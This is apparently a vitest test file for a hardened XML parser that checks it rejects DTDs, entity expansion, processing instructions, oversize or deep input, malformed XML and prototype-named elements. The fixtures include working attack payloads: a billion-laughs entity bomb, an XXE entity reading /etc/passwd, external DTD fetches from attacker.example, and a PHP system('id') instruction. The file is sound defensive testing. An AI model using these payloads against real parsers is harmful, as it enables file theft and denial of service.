import { describe, expect, it } from 'vitest';
import { parseXmlDocument } from './xml-document.ts';
import { defaultXmlLimits, type XmlLimits } from './xml-limits.ts';
import { refusalOf } from './xml-test-helpers.ts';

const parse = (text: string, limits: Partial<XmlLimits> = {}) =>
  parseXmlDocument(text, { ...defaultXmlLimits, ...limits });
const codeOf = (text: string, limits: Partial<XmlLimits> = {}) => refusalOf(() => parse(text, limits)).code;

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<input><title>&lol9;</title></input>`;

const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
const withElements = (count: number) => `<input>${'<i/>'.repeat(count - 1)}</input>`;

describe('parseXmlDocument: what it refuses before anything can expand', () => {
  it('refuses a document with a DTD, so no entity can expand (billion laughs)', () => {
    const refusal = refusalOf(() => parse(billionLaughs));
    expect(refusal.code).toBe('XML_DTD_FORBIDDEN');
    expect(refusal.message).toContain('<!DOCTYPE');
    expect(refusal.message).toContain('line 2, column 1');
  });

  it('refuses an external entity, so no file or URL is ever read (XXE)', () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE input [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><input>&xxe;</input>';
    expect(codeOf(xxe)).toBe('XML_DTD_FORBIDDEN');
  });

  it('refuses an external DTD and parameter entities', () => {
    expect(codeOf('<!DOCTYPE input SYSTEM "http://attacker.example/evil.dtd"><input/>')).toBe(
      'XML_DTD_FORBIDDEN',
    );
    expect(codeOf('<!DOCTYPE input [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><input/>')).toBe(
      'XML_DTD_FORBIDDEN',
    );
  });

  it('refuses DTD syntax in any spelling or place, even without a DOCTYPE', () => {
    expect(codeOf('<!doctype input><input/>')).toBe('XML_DTD_FORBIDDEN');
    expect(codeOf('<input><!ENTITY x "y"></input>')).toBe('XML_DTD_FORBIDDEN');
  });

  it('refuses an entity that is not predefined, since without a DTD none can be declared', () => {
    const refusal = refusalOf(() => parse('<input>&xxe;</input>'));
    expect(refusal.code).toBe('XML_ENTITY_FORBIDDEN');
    expect(refusal.message).toContain('&xxe;');
    expect(codeOf('<input>&nbsp;</input>')).toBe('XML_ENTITY_FORBIDDEN');
    expect(codeOf('<input><entry key="&copy;">1</entry></input>')).toBe('XML_ENTITY_FORBIDDEN');
  });

  it('refuses processing instructions other than the XML declaration', () => {
    expect(codeOf('<?xml-stylesheet href="evil.xsl"?><input/>')).toBe('XML_PROCESSING_INSTRUCTION_FORBIDDEN');
    const refusal = refusalOf(() => parse('<input><?php system("id"); ?></input>'));
    expect(refusal.code).toBe('XML_PROCESSING_INSTRUCTION_FORBIDDEN');
    expect(refusal.message).toContain('<?php');
  });
});

describe('parseXmlDocument: limits', () => {
  it('refuses a document over 1 MiB, counting UTF-8 bytes, and names the limit', () => {
    const ofLength = (bytes: number) => `<input>${'x'.repeat(bytes - '<input></input>'.length)}</input>`;
    const justOver = ofLength(defaultXmlLimits.maxBytes + 1);
    const refusal = refusalOf(() => parse(justOver));
    expect(refusal.code).toBe('XML_TOO_LARGE');
    expect(refusal.message).toBe('The XML document is 1048577 bytes; the limit is 1048576 bytes.');
    expect(parse(ofLength(defaultXmlLimits.maxBytes)).name).toBe('input');
    // 'é' is two bytes: 11 bytes in 9 characters.
    expect(codeOf('<a>éé</a>', { maxBytes: 10 })).toBe('XML_TOO_LARGE');
    expect(parse('<a>éé</a>', { maxBytes: 11 }).text).toBe('éé');
  });

  it('accepts 32 levels of nesting and refuses 33, naming the limit', () => {
    expect(parse(nested(32)).name).toBe('a');
    const refusal = refusalOf(() => parse(nested(33)));
    expect(refusal.code).toBe('XML_TOO_DEEP');
    expect(refusal.message).toBe('<a> is nested 33 elements deep; the limit is 32.');
    expect(codeOf('<a><b><c/></b></a>', { maxDepth: 2 })).toBe('XML_TOO_DEEP');
  });

  it('honours a depth limit raised beyond the parser’s own default of 100', () => {
    expect(parse(nested(150), { maxDepth: 150 }).children).toHaveLength(1);
  });

  it('accepts 10,000 elements and refuses 10,001, naming the limit', () => {
    expect(parse(withElements(10_000)).children).toHaveLength(9_999);
    const refusal = refusalOf(() => parse(withElements(10_001)));
    expect(refusal.code).toBe('XML_TOO_MANY_ELEMENTS');
    expect(refusal.message).toBe('The XML document has more than 10000 elements, the limit.');
    expect(codeOf(withElements(3), { maxElements: 2 })).toBe('XML_TOO_MANY_ELEMENTS');
  });
});

describe('parseXmlDocument: malformed documents', () => {
  it.each([
    ['an unclosed tag', '<input><title>x</input>'],
    ['an unclosed root', '<input><title>x</title>'],
    ['mismatched tags', '<input></output>'],
    ['two roots', '<a></a><b></b>'],
    ['two self-closing roots', '<a/><b/>'],
    ['text before the root', 'hello<input/>'],
    ['text after the root', '<input></input>hello'],
    ['text after a self-closing root', '<input/>hello'],
    ['text after a root and a comment', '<input/>hello<!-- c -->'],
    ['no root at all', ''],
    ['only white space', '  \n'],
    ['a bare ampersand', '<input>fish & chips</input>'],
    ['a bare ampersand in an attribute', '<input><entry key="a&b">1</entry></input>'],
    ['a name starting with a digit', '<1st/>'],
    ['a repeated attribute', '<input nil="true" nil="true"/>'],
    ['a control character', '<input>bell\u0007</input>'],
    ['a character reference to a control character', '<input>&#7;</input>'],
    ['a character reference to NUL', '<input>&#0;</input>'],
    ['a character reference to a surrogate', '<input>&#xD800;</input>'],
    ['a character reference beyond Unicode', '<input>&#x110000;</input>'],
    ['an XML declaration not at the start', '<input><?xml version="1.0"?></input>'],
  ])('refuses %s as XML_MALFORMED', (_, text) => {
    expect(codeOf(text)).toBe('XML_MALFORMED');
  });

  it('says where the document is malformed', () => {
    expect(refusalOf(() => parse('<input>\n  <title>x</titel>\n</input>')).message).toBe(
      "Malformed XML at line 2, column 11: Expected closing tag 'title' (opened in line 2, col 3) instead of closing tag 'titel'.",
    );
    expect(refusalOf(() => parse('<input>\u0001</input>')).message).toBe(
      'The character U+0001 at line 1, column 8 is not allowed in XML 1.0.',
    );
  });
});

describe('parseXmlDocument: text', () => {
  it('decodes the five predefined entities and character references, and nothing else', () => {
    const root = parse('<t>&amp;&lt;&gt;&quot;&apos; &#233;&#xE9;&#x1F600; &amp;lt;</t>');
    expect(root.text).toBe('&<>"\' éé😀 &lt;');
  });

  it('keeps leading, trailing and white-space-only text exactly', () => {
    expect(parse('<t>  two spaces around  </t>').text).toBe('  two spaces around  ');
    expect(parse('<t>\n\tindented\n</t>').text).toBe('\n\tindented\n');
    expect(parse('<t>   </t>').text).toBe('   ');
  });

  it('reads a raw CR LF as LF, as XML requires, and &#13; as CR', () => {
    expect(parse('<t>a\r\nb\rc&#13;&#10;d</t>').text).toBe('a\nb\nc\r\nd');
  });

  it('reads CDATA as text, as is, without decoding entities in it', () => {
    expect(parse('<t>x<![CDATA[<b>&amp;</b>]]>y</t>').text).toBe('x<b>&amp;</b>y');
  });

  it('leaves comments out of the text', () => {
    expect(parse('<t>before<!-- a comment -->after</t>').text).toBe('beforeafter');
  });

  it('accepts an XML declaration, a byte order mark and comments around the root', () => {
    const root = parse('\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- hi --><input/>\n<!-- bye -->\n');
    expect(root).toEqual({ name: 'input', attributes: {}, children: [], text: '' });
  });

  it('keeps only the nil and key attributes', () => {
    const root = parse(
      '<input xmlns="urn:x" lang="en"><a nil="true" other="1"/><entry key="k">1</entry></input>',
    );
    expect(root.attributes).toEqual({});
    expect(root.children.map((child) => child.attributes)).toEqual([{ nil: 'true' }, { key: 'k' }]);
  });

  it('refuses an element named after a prototype property, pointing to <entry key="…">', () => {
    const refusal = refusalOf(() => parse('<input><constructor>1</constructor></input>'));
    expect(refusal.code).toBe('XML_NOT_MAPPABLE');
    expect(refusal.message).toContain('<entry key="constructor">');
    expect(codeOf('<input><__proto__>1</__proto__></input>')).toBe('XML_NOT_MAPPABLE');
  });

  it('keeps names such as toString as they are', () => {
    expect(parse('<input><toString>1</toString></input>').children[0]?.name).toBe('toString');
  });
});
